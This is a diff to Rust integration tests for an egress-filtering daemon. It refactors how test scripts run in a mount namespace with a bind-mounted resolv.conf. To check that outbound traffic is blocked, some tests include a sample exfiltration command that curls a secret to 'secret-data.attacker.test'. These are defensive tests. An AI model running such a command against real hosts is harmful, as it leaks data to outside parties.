@@ -40,30 +40,44 @@ const ALLOW: &[&str] = &[
     "*.cdn.test:443",
 ];
 
-/// Runs `script` with /etc/resolv.conf naming `nameserver` (a documentation
-/// address where no DNS server runs: only the redirect can answer).
-fn with_resolv_conf(tmp: &TempDir, nameserver: &str, script: &str) -> Vec<String> {
+/// Runs `script` under `exec` with /etc/resolv.conf naming `nameserver` (a
+/// documentation address where no DNS server runs: only the redirect can
+/// answer). The file is bind-mounted in a mount namespace made before
+/// egressd starts: the command itself may not mount (a Landlock domain
+/// that handles file access forbids it, before Linux 6.12).
+fn run_with_resolv_conf(
+    ns: &Netns,
+    tmp: &TempDir,
+    nameserver: &str,
+    script: &str,
+) -> egress_tests::egressd::ExecResult {
     let conf = tmp
         .write(
             "resolv.conf",
             &format!("nameserver {nameserver}\noptions attempts:1 timeout:2\n"),
         )
         .unwrap();
-    vec![
-        "unshare".into(),
-        "--mount".into(),
-        "sh".into(),
-        "-c".into(),
-        format!(
-            "mount --bind {} /etc/resolv.conf && {script}",
-            conf.display()
-        ),
-    ]
+    in_mount_ns(ns, &conf, ALLOW, &["sh", "-c", script])
 }
 
-fn run(ns: &Netns, argv: &[String]) -> egress_tests::egressd::ExecResult {
-    let argv: Vec<&str> = argv.iter().map(String::as_str).collect();
-    exec(ns, ALLOW, &argv).unwrap()
+/// `exec ARGS -- COMMAND` in a mount namespace where `conf` is /etc/resolv.conf.
+fn in_mount_ns(
+    ns: &Netns,
+    conf: &std::path::Path,
+    args: &[&str],
+    command: &[&str],
+) -> egress_tests::egressd::ExecResult {
+    let mount = format!(
+        "mount --bind {} /etc/resolv.conf && exec \"$@\"",
+        conf.display()
+    );
+    egress_tests::egressd::exec_under(
+        ns,
+        &["unshare", "--mount", "sh", "-c", &mount, "sh"],
+        args,
+        command,
+    )
+    .unwrap()
 }
 
 fn dig(ns: &Netns, args: &str) -> egress_tests::egressd::ExecResult {
@@ -211,7 +225,7 @@ except socket.gaierror as e:
     print('not resolved')
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.connect(('203.0.113.1', 53)); print(u.getpeername()[0], u.getpeername()[1])
 ""#;
-    let r = run(&ns, &with_resolv_conf(&tmp, "203.0.113.1", script));
+    let r = run_with_resolv_conf(&ns, &tmp, "203.0.113.1", script);
     let lines: Vec<&str> = r.stdout.lines().collect();
     assert_eq!(
         lines,
@@ -240,7 +254,7 @@ fn an_address_is_allowed_only_once_answered() {
     let script = format!(
         "{PROBE} tcp 198.51.100.2:443; getent ahostsv4 img.cdn.test | head -n 1 | cut -d' ' -f1; {PROBE} tcp 198.51.100.2:443"
     );
-    let r = run(&ns, &with_resolv_conf(&tmp, "203.0.113.1", &script));
+    let r = run_with_resolv_conf(&ns, &tmp, "203.0.113.1", &script);
     let lines: Vec<&str> = r.stdout.lines().collect();
     assert_eq!(lines, ["error: 1", "198.51.100.2", "ok"], "{}", r.stderr);
     assert_eq!(cdn.count(), 1);
@@ -255,7 +269,7 @@ fn curl_resolves_and_connects() {
     let exfil = Listener::tcp(&ns, "203.0.113.9:443").unwrap();
     let tmp = TempDir::new("curl").unwrap();
     let script = "curl -4 -s -o /dev/null --max-time 1 http://api.model.test:443/ ; echo $?; curl -s --max-time 1 -d secret http://secret-data.attacker.test:443/ ; echo $?";
-    let r = run(&ns, &with_resolv_conf(&tmp, "203.0.113.1", script));
+    let r = run_with_resolv_conf(&ns, &tmp, "203.0.113.1", script);
     let lines: Vec<&str> = r.stdout.lines().collect();
     // 28: connected, then timed out waiting (the listener never answers);
     // 6: could not resolve.
@@ -343,7 +357,7 @@ for name in ('rebind.cdn.test', 'meta.cdn.test'):
     except OSError as e:
         print(ip, 'error', e.errno)
 ""#;
-    let r = run(&ns, &with_resolv_conf(&tmp, "203.0.113.1", script));
+    let r = run_with_resolv_conf(&ns, &tmp, "203.0.113.1", script);
     let lines: Vec<&str> = r.stdout.lines().collect();
     assert_eq!(
         lines,
@@ -471,7 +485,7 @@ except Exception: pass\"; \
          getent ahosts api.model.test > /dev/null; \
          dig +short +time=2 +tries=1 api.model.test > /dev/null; echo done"
     );
-    let r = run(&ns, &with_resolv_conf(&tmp, "203.0.113.1", &script));
+    let r = run_with_resolv_conf(&ns, &tmp, "203.0.113.1", &script);
     assert!(r.stdout.contains("done"), "{r:?}");
     assert!(
         r.events.is_empty(),
@@ -560,23 +574,15 @@ fn resolve_as_a_pod(
         )
         .unwrap();
     let script = format!(
-        "mount --bind {} /etc/resolv.conf && \
-         (getent ahostsv4 api.model.test | head -n 1 | cut -d' ' -f1); {}",
-        conf.display(),
+        "(getent ahostsv4 api.model.test | head -n 1 | cut -d' ' -f1); {} api.model.test",
         client.display()
     );
-    let r = exec(
+    let r = in_mount_ns(
         ns,
+        &conf,
         &["--policy", &policy.display().to_string()],
-        &[
-            "unshare",
-            "--mount",
-            "sh",
-            "-c",
-            &format!("{script} api.model.test"),
-        ],
-    )
-    .unwrap();
+        &["sh", "-c", &script],
+    );
     (r.stdout.lines().map(str::to_string).collect(), r)
 }
 
@@ -643,13 +649,11 @@ except Exception: pass\"; \
     };
     // A name no rule allows: one DNS event per query, each with its asker.
     let name = "secret-data.attacker.test";
-    let r = run(
+    let r = run_with_resolv_conf(
         &ns,
-        &with_resolv_conf(
-            &tmp,
-            "203.0.113.1",
-            &clients(&format!("http://{name}:443/"), name),
-        ),
+        &tmp,
+        "203.0.113.1",
+        &clients(&format!("http://{name}:443/"), name),
     );
     assert!(r.stdout.contains("done"), "{r:?}");
     assert!(!r.events.is_empty(), "{r:?}");
@@ -682,13 +686,11 @@ except Exception: pass\"; \
         upstream.asked()
     );
     // An address no rule allows: one refused connect per client.
-    let r = run(
+    let r = run_with_resolv_conf(
         &ns,
-        &with_resolv_conf(
-            &tmp,
-            "203.0.113.1",
-            &clients("http://203.0.113.9:443/", "api.model.test"),
-        ),
+        &tmp,
+        "203.0.113.1",
+        &clients("http://203.0.113.9:443/", "api.model.test"),
     );
     assert!(r.stdout.contains("done"), "{r:?}");
     assert_eq!(bad.count(), 0, "a refused connect arrived");
